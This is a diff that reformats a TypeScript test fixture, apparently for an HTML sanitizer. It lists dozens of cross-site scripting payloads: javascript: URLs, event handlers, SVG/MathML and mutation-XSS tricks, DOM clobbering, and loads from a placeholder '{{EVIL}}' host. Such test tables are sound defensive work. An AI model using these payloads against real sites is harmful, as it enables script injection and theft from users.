@@ -41,11 +41,19 @@ const rows: Row[] = [
   ['markup', 'object data', '<object data="javascript:window.__xss=9"></object>'],
   ['markup', 'embed src', '<embed src="javascript:window.__xss=10">'],
   ['markup', 'a javascript: href', '<a href="javascript:window.__xss=11">bấm vào đây</a>'],
-  ['markup', 'form action and formaction', '<form action="javascript:window.__xss=12"><button formaction="javascript:window.__xss=12">Gửi</button></form>'],
+  [
+    'markup',
+    'form action and formaction',
+    '<form action="javascript:window.__xss=12"><button formaction="javascript:window.__xss=12">Gửi</button></form>',
+  ],
   ['markup', 'meta refresh to javascript:', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=13">'],
   ['markup', 'base href hijacks relative URLs', '<base href="{{EVIL}}/base/"><a href="tin.html">tin</a>'],
   ['markup', 'stylesheet link', '<link rel="stylesheet" href="{{EVIL}}/link.css">'],
-  ['markup', 'style element with @import and url()', "<style>@import '{{EVIL}}/import.css'; p { background: url({{EVIL}}/bg.png) }</style>"],
+  [
+    'markup',
+    'style element with @import and url()',
+    "<style>@import '{{EVIL}}/import.css'; p { background: url({{EVIL}}/bg.png) }</style>",
+  ],
   ['markup', 'style attribute with url()', '<div style="background-image:url({{EVIL}}/style-attr.png)">nền</div>'],
   ['markup', 'mixed case handler', '<IMG SRC=x OnErRoR=window.__xss=18>'],
   ['markup', 'slash as attribute separator', '<img/src=x/onerror=window.__xss=19>'],
@@ -53,36 +61,68 @@ const rows: Row[] = [
   ['markup', 'handler importing a module', `<img src=x onerror="import('{{EVIL}}/import.js')">`],
   ['markup', 'marquee onstart', '<marquee onstart="confirm(22)">chạy chữ</marquee>'],
   ['markup', 'custom tag with autofocus handler', '<xss-tag tabindex=1 autofocus onfocus="prompt(23)">x</xss-tag>'],
-  ['markup', 'popover beforetoggle', '<button popovertarget=p>mở</button><div popover id=p onbeforetoggle="window.__xss=24">p</div>'],
+  [
+    'markup',
+    'popover beforetoggle',
+    '<button popovertarget=p>mở</button><div popover id=p onbeforetoggle="window.__xss=24">p</div>',
+  ],
   ['markup', 'table background javascript:', '<table background="javascript:window.__xss=25"><tr><td>ô</td></tr></table>'],
   ['markup', 'legacy isindex', '<isindex type=image src=1 onerror=alert(26)>'],
   ['markup', 'contenteditable onblur', '<p contenteditable onblur="alert(27)">sửa</p>'],
   ['markup', 'a ping and target=_top', '<a href="https://portal.example/tin" target="_top" ping="{{EVIL}}/ping">tin</a>'],
   ['markup', 'srcset with javascript:', '<img srcset="javascript:window.__xss=29 1x" alt="">'],
   ['markup', 'picture source srcset', '<picture><source srcset="javascript:window.__xss=30"><img src=x alt=""></picture>'],
-  ['markup', 'declarative shadow root', '<div><template shadowrootmode="open"><img src=x onerror="window.__xss=31"></template></div>'],
+  [
+    'markup',
+    'declarative shadow root',
+    '<div><template shadowrootmode="open"><img src=x onerror="window.__xss=31"></template></div>',
+  ],
 
   // SVG and MathML
   ['svg-mathml', 'svg onload', '<svg onload="window.__xss=32">'],
   ['svg-mathml', 'script inside svg', '<svg><script>window.__xss=33</script></svg>'],
   ['svg-mathml', 'svg animate onbegin', '<svg><animate onbegin="window.__xss=34" attributeName="x" dur="1s"></animate></svg>'],
   ['svg-mathml', 'svg a xlink:href', '<svg><a xlink:href="javascript:window.__xss=35"><text x="0" y="20">bấm</text></a></svg>'],
-  ['svg-mathml', 'svg set turns href into javascript:', '<svg><a><set attributeName="href" to="javascript:window.__xss=36"></set><text y="20">x</text></a></svg>'],
-  ['svg-mathml', 'svg use pointing at a data: document', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.__xss=37'/></svg>#x"></use></svg>`],
-  ['svg-mathml', 'foreignObject with iframe', '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=38</script>"></iframe></foreignObject></svg>'],
+  [
+    'svg-mathml',
+    'svg set turns href into javascript:',
+    '<svg><a><set attributeName="href" to="javascript:window.__xss=36"></set><text y="20">x</text></a></svg>',
+  ],
+  [
+    'svg-mathml',
+    'svg use pointing at a data: document',
+    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.__xss=37'/></svg>#x"></use></svg>`,
+  ],
+  [
+    'svg-mathml',
+    'foreignObject with iframe',
+    '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=38</script>"></iframe></foreignObject></svg>',
+  ],
   ['svg-mathml', 'MathML href', '<math href="javascript:window.__xss=39"><mi>x</mi></math>'],
-  ['svg-mathml', 'MathML maction xlink:href', '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=40">bấm</maction></math>'],
+  [
+    'svg-mathml',
+    'MathML maction xlink:href',
+    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=40">bấm</maction></math>',
+  ],
   ['svg-mathml', 'svg image onerror', '<svg><image href="x" onerror="window.__xss=41"></image></svg>'],
 
   // Parser differentials (mutation XSS)
-  ['mutation', 'math/mglyph/style namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=42">'],
+  [
+    'mutation',
+    'math/mglyph/style namespace confusion',
+    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=42">',
+  ],
   ['mutation', 'form/math nesting', '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__xss=43">'],
   ['mutation', 'noscript attribute', '<noscript><p title="</noscript><img src=x onerror=window.__xss=44>">'],
   ['mutation', 'svg style raw text', '<svg><style><img src=x onerror="window.__xss=45"></style></svg>'],
   ['mutation', 'svg p ends foreign content', '<svg><p><style><img src=x onerror=window.__xss=46>'],
   ['mutation', 'comment containing a tag', '<!--<img src="--><img src=x onerror=window.__xss=47//">'],
   ['mutation', 'nested script tags', '<scr<script>ipt>window.__xss=48</scr</script>ipt>'],
-  ['mutation', 'template holding a script', '<template><script>window.__xss=49</script><img src=x onerror=window.__xss=49></template>'],
+  [
+    'mutation',
+    'template holding a script',
+    '<template><script>window.__xss=49</script><img src=x onerror=window.__xss=49></template>',
+  ],
   ['mutation', 'select/template', '<select><template><style><img src=x onerror="window.__xss=50"></style></template></select>'],
 
   // Breaking out of the context the payload is embedded in
@@ -96,7 +136,11 @@ const rows: Row[] = [
   ['breakout', 'template-literal expression', '${window.__xss=58}'],
 
   // DOM clobbering: names that shadow document and prototype properties
-  ['clobbering', 'form id=location, img name=getElementById', '<form id="location"><input name="href"></form><img name="getElementById" src=x>'],
+  [
+    'clobbering',
+    'form id=location, img name=getElementById',
+    '<form id="location"><input name="href"></form><img name="getElementById" src=x>',
+  ],
   ['clobbering', 'ids named after prototype keys', '<a id="__proto__"></a><img name="__proto__"><a id="constructor"></a>'],
   ['clobbering', 'form clobbering attributes', '<form id="attributes"><input name="attributes"><input id="nodeName"></form>'],
   ['clobbering', 'cookie and body names', '<img name="cookie"><img name="body"><form name="forms"></form>'],
@@ -107,8 +151,18 @@ const rows: Row[] = [
   ['clobbering', 'prototype keys as character references', '&constructor; &toString; &hasOwnProperty; &valueOf;'],
 
   // Character references in text
-  ['entities', 'escaped script, decoded as text', '&lt;script&gt;window.__xss=68&lt;/script&gt;', '<script>window.__xss=68</script>'],
-  ['entities', 'hex references forming a tag', '&#x3C;img src=x onerror=window.__xss=69&#x3E;', '<img src=x onerror=window.__xss=69>'],
+  [
+    'entities',
+    'escaped script, decoded as text',
+    '&lt;script&gt;window.__xss=68&lt;/script&gt;',
+    '<script>window.__xss=68</script>',
+  ],
+  [
+    'entities',
+    'hex references forming a tag',
+    '&#x3C;img src=x onerror=window.__xss=69&#x3E;',
+    '<img src=x onerror=window.__xss=69>',
+  ],
   ['entities', 'decimal references without semicolons', '&#60;svg onload=alert(70)&#62', '<svg onload=alert(70)>'],
   ['entities', 'double-escaped markup stays one level escaped', '&amp;lt;b&amp;gt;x&amp;lt;/b&amp;gt;', '&lt;b&gt;x&lt;/b&gt;'],
   ['entities', 'bidi override and zero-width characters', 'Tin\u202egnp.exe\u200b\u200d'],
